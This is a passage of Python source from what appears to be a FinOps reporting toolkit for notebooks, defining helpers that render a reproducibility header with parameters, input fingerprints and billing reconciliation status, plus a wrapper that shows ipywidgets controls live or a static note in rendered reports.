# --------------------------------------------------------------------------------------------------------------
# header

def _versions() -> dict[str, str]:
    out = {"python": platform.python_version()}
    for name in KEY_PACKAGES:
        try:
            out[name] = metadata.version(name)
        except metadata.PackageNotFoundError:
            continue
    return out


def _kv_table(items: Mapping[str, Any]) -> str:
    rows = "".join(
        f'<tr style="{_TR}"><th style="{_TH}font-weight:500">{html.escape(str(k))}</th>'
        f'<td style="{_TD};overflow-wrap:anywhere"><code>{html.escape(json.dumps(v, default=str, ensure_ascii=False))}</code></td></tr>'
        for k, v in items.items())
    return f'<table class="finops-table {NO_MATH}" style="{_TABLE_CSS}">{rows}</table>'


def scope(con: Any, config: Any = None, params: Mapping[str, Any] | None = None) -> Any:
    """The notebook's resolved :class:`~finops_kit.scope.Scope`, from the scope parameters captured by
    :func:`setup` (or ``params``): parsed and checked once by the package, the same for every curated notebook.

    A scope without data raises "no data for this scope" instead of letting the report show $0.00.
    """
    from . import scope as scope_mod

    values = dict(_state["params"] if params is None else params)
    sc = scope_mod.resolve(con, config, {k: v for k, v in values.items() if k in scope_mod.PARAMETERS})
    _state["currency"] = sc.currency or "USD"  # tables and money() show the scope's currency from here on
    return sc


def header(con: Any, title: str | None = None, params: Mapping[str, Any] | None = None,
           scope: Any = None) -> None:
    """Display the reproducibility header: parameters, input fingerprint, reconciliation, versions, run time.

    ``params`` defaults to the parameters captured by :func:`setup`. The output is marked with
    ``{"finops_kit": "header"}`` metadata (it carries the run time, which differs between runs).
    """
    from IPython.display import display

    from .quality import summary_line as quality_line
    from .warehouse import fingerprint, reconciliation_table

    params = dict(_state["params"] if params is None else params)
    fp = fingerprint(con).df()
    rec = reconciliation_table(con).df()
    n_bad = int((~rec["ok"].astype(bool)).sum()) if len(rec) else 0
    status = ("no billing data ingested" if not len(rec) else
              f"all {len(rec)} source/period/currency totals reconcile" if n_bad == 0 else
              f"{n_bad} of {len(rec)} source/period/currency totals DO NOT reconcile")
    color = "#2e7d32" if len(rec) and n_bad == 0 else "#c62828"
    now = _dt.datetime.now(_dt.UTC).strftime("%Y-%m-%d %H:%M:%S UTC")
    fp_show = fp.drop(columns=[c for c in ("ingest_id",) if c in fp.columns])
    fp_show = fp_show.assign(sha256=fp_show["sha256"].map(lambda h: (h or "")[:16])) if len(fp_show) else fp_show
    rec_show = rec.drop(columns=[c for c in ("ingest_id",) if c in rec.columns])
    versions = _versions()
    # compact on purpose: one line above the fold (the summary block comes right after it); the detail a reviewer
    # needs to reproduce the numbers stays one click away in <details> (open when something does not reconcile)
    parts = [
        f'<div class="finops-header {NO_MATH}" style="border:1px solid #ddd;border-radius:6px;padding:4px 12px;'
        'margin:4px 0 8px 0;background:#fafafa;font-size:12px">',
        f'<span style="color:{color};font-weight:600">Reconciliation: {html.escape(status)}</span>',
        f' &middot; {html.escape(quality_line(con))} &middot; rendered {html.escape(now)}',
        f"<details {'open' if n_bad else ''}><summary>Report details: scope, parameters, input fingerprint "
        f"({len(fp)} source files), reconciliation, versions</summary>",
        f'<h2 style="margin:4px 0;font-size:15px">{html.escape(title)}</h2>' if title else "",
        (f'<p class="finops-scope" style="margin:6px 0"><b>Scope:</b> {html.escape(scope.describe())}<br>'
         f'{html.escape(scope.completeness_note())}</p>' if scope is not None else ""),
        '<p style="margin:2px 0">' + " · ".join(f"{html.escape(k)} {html.escape(v)}" for k, v in versions.items())
        + "</p>",
        "<details><summary><b>Parameters</b></summary>", _kv_table(params), "</details>",
        f"<details><summary><b>Input fingerprint</b> ({len(fp)} source files)</summary>",
        table(fp_show, caption=None, max_rows=len(fp_show) or 1, csv=False).markup if len(fp_show)
        else "<p>no files</p>", "</details>",
        f"<details {'open' if n_bad else ''}><summary><b>Reconciliation</b> (source vs normalized totals)"
        "</summary>",
        table(rec_show, money=[c for c in rec_show.columns if c.endswith(("_billed", "_effective"))],
              currency=None, max_rows=len(rec_show) or 1, csv=False).markup if len(rec_show)
        else "<p>nothing ingested</p>",
        "</details></details></div>",
    ]
    plain = f"{title or 'Report'} — rendered {now}; parameters {json.dumps(params, default=str)}; {status}"
    if scope is not None:
        plain += f"; scope: {scope.describe()}"
    display({"text/html": "".join(parts), "text/plain": plain}, raw=True, metadata={META_KEY: "header"})


# --------------------------------------------------------------------------------------------------------------
# ipywidgets

def live_only(widget: Any, static: Any = None, note: str | None = None,
              refresh: Callable[[], Any] | None = None) -> None:
    """Show an ipywidgets control live; in a static report show a clear note instead of a dead control.

    ``static`` (a chart, table, or a callable returning one) is displayed in reports in place of the control,
    typically the view at the default selection. ``refresh`` fills the control's ``Output`` with its first view
    and runs only live: a report does not show the control, and feeding an ``ipywidgets.Output`` during a report
    run is where nbclient intermittently stalls until the cell timeout (nbclient issue 312). Controls linked
    client-side with ``jslink`` do work in reports; display those directly instead of through this helper.
    """
    from IPython.display import display

    if not in_report():
        if refresh is not None:
            refresh()
        display(widget)
        return
    text = html.escape(note or LIVE_ONLY_NOTE)
    display({"text/html": f'<div class="finops-live-only {NO_MATH}" style="border-left:4px solid #f0ad4e;'
                          f'background:#fff8e1;padding:6px 10px;margin:6px 0;font-size:13px">'
                          f'&#9432; {text}</div>',
             "text/plain": f"[{note or LIVE_ONLY_NOTE}]"}, raw=True)
    if static is not None:
        display(static() if callable(static) else static)
